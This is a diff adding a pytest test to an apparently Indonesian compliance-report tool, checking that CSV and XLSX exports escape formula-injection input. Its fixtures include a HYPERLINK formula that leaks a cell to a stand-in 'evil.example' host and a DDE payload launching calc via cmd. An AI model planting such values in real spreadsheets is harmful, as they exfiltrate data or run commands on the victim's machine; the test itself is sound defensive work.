@@ -3,6 +3,8 @@ Kemendagri list and the KASN-era dossier hold, and how the summary sorts."""
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import replace
 from datetime import UTC, date, datetime
 from pathlib import Path
@@ -155,3 +157,30 @@ def test_the_pdf_breaks_no_heading_word_and_fits_every_column_on_the_page(
         for heading in headings:
             for word in latin1(heading).split():
                 assert word in words, (which, heading, word)
+
+
+def test_source_text_never_becomes_a_formula_in_the_csv_or_xlsx(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from sbt_sync.reports.compliance_render import as_csv, write_xlsx
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    report = compile_report(
+        [replace(CASE, recommendation_no="@SUM(1+1)*cmd|' /C calc'!A0")],
+        [],
+        {NIP: {1}},
+        instansi_names={"SAMPANG": formula},
+        person_names={NIP: "-2+3"},
+        as_of=AS_OF,
+        follow_up_days=10,
+        nip_display="full",
+    )
+    for which in TABLES:
+        for row in csv.reader(io.StringIO(as_csv(report, which).split("\n", 1)[1])):
+            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@")], (which, row)
+    assert "'=HYPERLINK" in as_csv(report, "summary")
+    write_xlsx(report, tmp_path / "kepatuhan.xlsx")
+    book = load_workbook(tmp_path / "kepatuhan.xlsx")
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == formula for c in cells)  # kept as text, unchanged
